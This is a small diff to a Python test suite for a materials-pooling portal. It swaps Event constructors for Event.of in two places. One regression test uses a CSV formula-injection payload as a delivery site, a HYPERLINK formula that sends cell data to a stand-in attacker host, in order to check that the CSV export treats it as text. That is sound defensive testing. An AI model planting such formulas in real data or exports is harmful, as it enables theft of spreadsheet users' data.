@@ -110,7 +110,7 @@ def pooling(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iter
 def sited(need: tuple[int, int, str, str]) -> Event:
     event = need_posted(*need)
     site = "Baustelle Hansastraße 12" if need[1] == 3 else None
-    return Event(event.event_type, event.payload | {"delivery_site": site})
+    return Event.of(event.event_type, event.payload | {"delivery_site": site})
 
 
 @pytest.fixture
@@ -428,7 +428,7 @@ def test_a_formula_typed_as_a_delivery_site_downloads_as_text(
     """Issue 15: the portal hands out pooling's CSV, where such a site is text."""
     event = need_posted(10, 1, "SIL-300", "12")
     site = '=HYPERLINK("http://evil.example/?d="&A1,"Klick")'
-    feed(pooling, Event(event.event_type, event.payload | {"delivery_site": site}))
+    feed(pooling, Event.of(event.event_type, event.payload | {"delivery_site": site}))
     closed = pooling.client.post("/api/v1/pools/close", headers=pooling.token("admin"))
     [order] = closed.get_json()["orders"]
 
